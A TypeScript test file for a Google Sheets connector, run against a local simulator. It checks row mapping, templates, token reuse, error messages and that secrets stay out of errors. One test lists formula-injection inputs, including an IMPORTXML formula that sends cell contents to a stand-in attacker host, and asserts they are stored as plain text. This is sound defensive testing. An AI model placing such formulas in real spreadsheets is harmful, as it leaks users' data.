import assert from "node:assert/strict";
import { generateKeyPairSync } from "node:crypto";
import { describe, it } from "node:test";
import { createSimulator, SPREADSHEET, UNSHARED } from "../../../sandbox/google-sheets/index.ts";
import { startSandbox } from "../../../sandbox/server.ts";
import { openBed } from "../../../test/connector-bed.ts";
import { isHubError } from "../../sdk/index.ts";
import { sampleMessage, testConnector } from "../../sdk/testing/index.ts";
import sheets from "./index.ts";

const simulator = createSimulator();
const server = async () => {
  const sandbox = await startSandbox({ simulators: [simulator] });
  const { baseUrl = "", settings } = sandbox.systems[0] ?? {};
  const reset = () => simulator.reset();
  return { baseUrl, settings: settings ?? {}, reset, close: () => sandbox.close() };
};
const { credentials } = simulator;
const keyFile = JSON.parse(credentials.service_account_json ?? "");
const otherKey = generateKeyPairSync("rsa", {
  modulusLength: 2048,
  privateKeyEncoding: { type: "pkcs8", format: "pem" },
  publicKeyEncoding: { type: "spki", format: "pem" },
});
const rows = (sheet = "NFes") => simulator.rows.get(sheet) ?? [];

testConnector(sheets, {
  credentials,
  badCredentials: {
    service_account_json: JSON.stringify({ ...keyFile, private_key: otherKey.privateKey }),
  },
  server,
  deliver: {
    settings: { spreadsheet_id: SPREADSHEET },
    received: () => rows(),
    rejected: { settings: { spreadsheet_id: SPREADSHEET, range: "Unknown!A:E" } },
  },
});

describe("a row in Google Sheets", () => {
  async function append(
    settings: Readonly<Record<string, unknown>>,
    data?: Readonly<Record<string, unknown>>,
  ) {
    simulator.reset();
    const { baseUrl, settings: own, close } = await server();
    await using bed = openBed(sheets, { baseUrl, credentials, settings: own });
    const message = sampleMessage(
      { settings: { spreadsheet_id: SPREADSHEET, ...settings } },
      data ? { data } : {},
    );
    try {
      return await sheets.deliver?.send(bed.ctx as never, message);
    } finally {
      await close();
    }
  }
  const shown = (sheet?: string) =>
    rows(sheet).map((row) => row.map((cell) => `${cell.kind} ${cell.shown}`));

  it("is the one of the fiscal documentation where nothing else is said", async () => {
    const receipt = await append({});
    assert.deepEqual(shown(), [
      [
        "number 12345",
        "date 2024-10-03",
        "text Empresa Exemplo LTDA",
        "text Cliente Exemplo",
        "number 1500.00",
      ],
    ]);
    assert.deepEqual(receipt, { status: 200, remote_id: "NFes!A1:E1" });
  });

  it("has the values that the subscription names: fields, nested ones, templates, facts of the event", async () => {
    const columns = [
      "totals.gross",
      "data.n",
      "paid",
      "Nº {{ data.n }}",
      "event.type",
      "missing",
      "tags",
    ];
    await append(
      { columns, range: "'Página1'!A:G" },
      { totals: { gross: "-12.50" }, n: 7, paid: true, tags: ["a"] },
    );
    assert.deepEqual(shown("Página1"), [
      [
        "number -12.50",
        "number 7",
        "boolean true",
        "text Nº 7",
        "text nfe_importada",
        "empty ",
        'text ["a"]',
      ],
    ]);
  });

  it("has no formula from the event's data", async () => {
    const formulas = [
      '=IMPORTXML("https://evil.example/?"&A1)',
      "+48123456789",
      "-2+3",
      "@SUM(1)",
      "\t=1+1",
      "'=1",
    ];
    const data = Object.fromEntries(formulas.map((text, i) => [`f${i}`, text]));
    const columns = [...Object.keys(data), "{{ data.f0 }}"];
    await append({ columns }, data);
    assert.deepEqual(
      rows()[0]?.map(({ kind }) => kind),
      columns.map(() => "text"),
    );
    assert.equal(rows()[0]?.[1]?.shown, "+48123456789");
  });

  it("has a formula where the column itself begins with one, and plain text with RAW", async () => {
    await append({ columns: ['=HYPERLINK("https://erp.example/{{ data.n }}")'] }, { n: 1 });
    assert.equal(rows()[0]?.[0]?.kind, "formula");
    await append({ columns: ["n"], value_input_option: "RAW" }, { n: "=1+1" });
    assert.deepEqual(rows()[0], [{ kind: "text", shown: "=1+1" }]);
  });

  it("that cannot be added fails in Google's words", async () => {
    const fault = async (settings: object) => {
      try {
        await append({ ...settings });
      } catch (error) {
        return isHubError(error) ? `${error.name}: ${error.message}` : error;
      }
      return "added";
    };
    assert.match(
      String(await fault({ spreadsheet_id: UNSHARED })),
      /^AuthError: .*does not have permission/,
    );
    assert.match(
      String(await fault({ spreadsheet_id: "unknown-id" })),
      /^ConfigError: .*not found/,
    );
    assert.match(
      String(await fault({ range: "Nope!A:B" })),
      /^ConfigError: .*Unable to parse range/,
    );
  });
});

describe("the service account", () => {
  it("fetches one token for many rows", async () => {
    simulator.reset();
    const { baseUrl, settings, close } = await server();
    await using bed = openBed(sheets, { baseUrl, credentials, settings });
    const send = () =>
      sheets.deliver?.send(
        bed.ctx as never,
        sampleMessage({ settings: { spreadsheet_id: SPREADSHEET } }),
      );
    await Promise.all([send(), send(), send()]);
    await send();
    assert.deepEqual([rows().length, simulator.tokens()], [4, 1]);
    await close();
  });

  it("is refused at once where its file is none, without a word of the file", () => {
    const baseUrl = (text: string) => sheets.manifest.baseUrl?.({ service_account_json: text }, {});
    assert.equal(baseUrl(credentials.service_account_json ?? ""), "https://sheets.googleapis.com");
    for (const text of [
      "{",
      '{"type":"authorized_user"}',
      JSON.stringify({ ...keyFile, private_key: "geheim" }),
    ]) {
      assert.throws(
        () => baseUrl(text),
        (error: Error) =>
          !error.message.includes("geheim") && /service_account_json/.test(error.message),
      );
    }
  });
});
